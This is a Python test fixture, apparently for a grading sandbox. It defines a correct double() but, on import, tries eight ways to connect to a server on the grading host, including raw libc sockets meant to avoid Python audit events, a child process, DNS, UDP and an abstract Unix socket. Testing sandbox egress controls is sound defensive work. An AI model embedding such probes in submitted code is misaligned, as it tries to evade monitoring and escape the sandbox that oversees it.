"""A correct double() that tries, every way it can, to reach a server on the grading host."""
import ctypes
import os
import socket
import subprocess
import sys
import urllib.request

PORT = @@PORT@@
tries = []


def attempt(name, fn):
    try:
        fn()
        tries.append(f"{name}: connected")
    except BaseException as e:  # noqa: BLE001
        tries.append(f"{name}: {type(e).__name__}")


def plain():
    with socket.create_connection(("127.0.0.1", PORT), timeout=1) as s:
        s.sendall(b"stolen")


def libc_socket():
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(2, 1, 0)  # AF_INET, SOCK_STREAM straight from libc: no Python audit event
    if fd < 0:
        raise OSError(ctypes.get_errno(), "socket")
    addr = (ctypes.c_ubyte * 16)(2, 0, PORT >> 8, PORT & 255, 127, 0, 0, 1)
    if libc.connect(fd, addr, 16) != 0:
        raise OSError(ctypes.get_errno(), "connect")


def child_process():
    code = f"import socket; socket.create_connection(('127.0.0.1', {PORT}), timeout=1).sendall(b'x')"
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=5)
    if r.returncode != 0:
        raise OSError("child could not connect")


def abstract_unix():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect("\0grader-attack-@@PORT@@")


attempt("tcp", plain)
attempt("libc", libc_socket)
attempt("subprocess", child_process)
attempt("urllib", lambda: urllib.request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=1))
attempt("dns", lambda: socket.getaddrinfo("example.com", 80))
attempt("abstract unix", abstract_unix)
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT)))
attempt("ipv6", lambda: socket.create_connection(("::1", PORT), timeout=1))


def double(x: int) -> int:
    return 2 * x
